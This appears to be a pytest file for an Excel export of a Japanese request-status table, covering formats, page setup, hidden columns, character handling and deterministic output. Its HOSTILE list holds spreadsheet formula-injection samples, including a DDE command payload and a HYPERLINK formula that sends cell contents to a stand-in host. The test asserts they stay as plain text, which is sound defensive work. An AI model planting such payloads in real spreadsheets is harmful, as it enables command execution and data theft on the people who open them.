"""The Excel file, opened again with the library that reads it."""

import io
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest

from issues.columns import declared
from reports.lists import excel

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"見る")',
    "+81312345678",
    "-5度",
    "@SUM(A1:A9)",
    "＝１＋１",
    "  =cmd|' /C calc'!A0",
    "\t=1",
)


def opened(overview):
    return openpyxl.load_workbook(io.BytesIO(excel.write(overview)))


def line(sheet, number):
    return [cell.value for cell in sheet[number]]


def test_the_sheet_holds_what_the_rows_hold(table):
    overview = table({}, {"number": "R6-0002", "reply_means": (), "opinion": ""})

    sheet = opened(overview)["対応状況一覧"]

    shown = declared.of_files(inside=True)
    assert line(sheet, 1) == [column.heading for column in shown]
    assert sheet.max_row == 3
    for place, row in enumerate(overview.rows, start=2):
        expected = [column.value(row) for column in shown]
        found = [v.date() if isinstance(v, datetime) else v for v in line(sheet, place)]
        assert found == expected


def test_days_are_days_and_numbers_are_numbers(table):
    sheet = opened(table({}))["対応状況一覧"]
    cells = dict(zip(line(sheet, 1), sheet[2], strict=True))

    days = ("発言の日", "回答期限", "最初の回答期限", "対応時期", "回答の日")
    assert {name: (cells[name].is_date, cells[name].number_format) for name in days} == {
        name: (True, 'yyyy"年"m"月"d"日"') for name in days
    }
    assert cells["発言の日"].value == datetime(2024, 4, 5)
    assert (cells["回答の回"].value, cells["回答の回"].data_type) == (1, "n")
    assert cells["団体コード"].value == "054348"


def test_the_head_stays_in_sight_and_filters(table):
    sheet = opened(table({}, {}, {}))["対応状況一覧"]

    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:AL4"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.print_title_cols == "$A:$A"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 8)
    widths = sum(each.width for each in sheet.column_dimensions.values())
    across, down = sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight
    assert (across > 1, widths / across <= excel.READABLE, down) == (True, True, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
    assert widths == [column.width for column in declared.of_files(inside=True)]
    assert {cell.alignment.wrap_text for cell in sheet[2] if cell.column_letter in "JKL"} == {True}


def test_the_columns_of_what_is_not_public_are_left_out_for_everybody(table):
    sheet = opened(table({}, inside=False))["対応状況一覧"]

    assert set(line(opened(table({}))["対応状況一覧"], 1)) - set(line(sheet, 1)) == {
        "回答は公表前",
        "公表",
        "番号（提出元）",
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_stays_text(table, text):
    overview = table({"title": text}, conditions=(text,))

    book = opened(overview)

    cell = book["対応状況一覧"]["J2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    types = {c.data_type for sheet in book for row in sheet.iter_rows() for c in row}
    assert "f" not in types
    assert text in {row[1] for row in book["この表について"].values}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("一行目\r\n二行目\r三行目", "一行目\n二行目\n三行目"),
        ("ベル\x07と消去\x7fと垂直\x0b", "ベル␇と消去␡と垂直␋"),
        ("絵文字👩‍👩‍👧と𠮷野家", "絵文字👩‍👩‍👧と𠮷野家"),
        ("ｶﾅとＡＢＣと　全角", "ｶﾅとＡＢＣと　全角"),
        ("文字でない\ufffe\uffff", "文字でない\ufffd\ufffd"),
        (" 前後に空白 ", " 前後に空白 "),
        ("_x0041_と&<>\"'", "_x0041_と&<>\"'"),
        ("]]>と<!-- -->", "]]>と<!-- -->"),
    ],
)
def test_every_character_arrives_or_shows_that_it_could_not(table, text, shown):
    sheet = opened(table({"ask": text}))["対応状況一覧"]

    assert sheet["K2"].value == shown


@pytest.mark.parametrize("sign", ["長", "👩"])
def test_a_text_that_no_cell_holds_is_cut_and_says_so(table, sign):
    sheet = opened(table({"ask": sign * 40_000}))["対応状況一覧"]

    value = sheet["K2"].value
    assert value.endswith("…（長いため、ここまで）")
    assert 32_760 <= len(value.encode("utf-16-le")) // 2 <= 32_767


def test_the_second_sheet_says_what_the_table_is(table):
    overview = table({"fictional": True}, {"status_code": "settled", "status": "決着"})

    sheet = opened(overview)["この表について"]

    assert [tuple(row) for row in sheet.values] == [
        ("対応状況一覧", None),
        ("時点", "令和6年6月5日（水）18時30分現在"),
        ("件数", "2件（回答済1件、決着1件）"),
        ("条件", "論点：3 費用\n状況：回答済"),
        ("並び順", "番号の順"),
        ("見られる人", "どなたでも"),
        ("出典", "論点 Ronten「要望の一覧」"),
        ("架空の見本", "「架空」の1件は、要望・回答・見解のどれかが、使い方を示すための見本です。"),
        ("注意", "「未回答」は、この時点で、回答期限を過ぎても府省の回答がない要望です。"),
        ("注意", "「回答」は、この表を見られる人が読める回答のうち、いちばん新しいものです。"),
    ]


def test_an_empty_table_is_a_table(table):
    sheet = opened(table(conditions=()))["対応状況一覧"]

    assert (sheet.max_row, sheet.auto_filter.ref) == (1, "A1:AL1")


def test_the_same_table_gives_the_same_bytes(table):
    assert excel.write(table({})) == excel.write(table({}))


def test_the_file_bears_the_time_of_the_table_and_not_that_of_writing(table):
    written = datetime(2024, 7, 1, 3, 4, 5, tzinfo=UTC)
    data = excel.write(table({}, written=written, digest="ab" * 32, session="WT第1回"))

    book = openpyxl.load_workbook(io.BytesIO(data))
    entries = zipfile.ZipFile(io.BytesIO(data)).infolist()
    naive = written.replace(tzinfo=None)
    assert (book.properties.created, book.properties.modified) == (naive, naive)
    assert {entry.date_time for entry in entries} == {(2024, 7, 1, 3, 4, 4)}
    assert {entry.compress_type for entry in entries} == {zipfile.ZIP_STORED}


def test_progress_is_told_row_by_row(table):
    told = []

    excel.write(table({}, {}, {}), lambda done, total: told.append((done, total)))

    assert told == [(1, 3), (2, 3), (3, 3)]
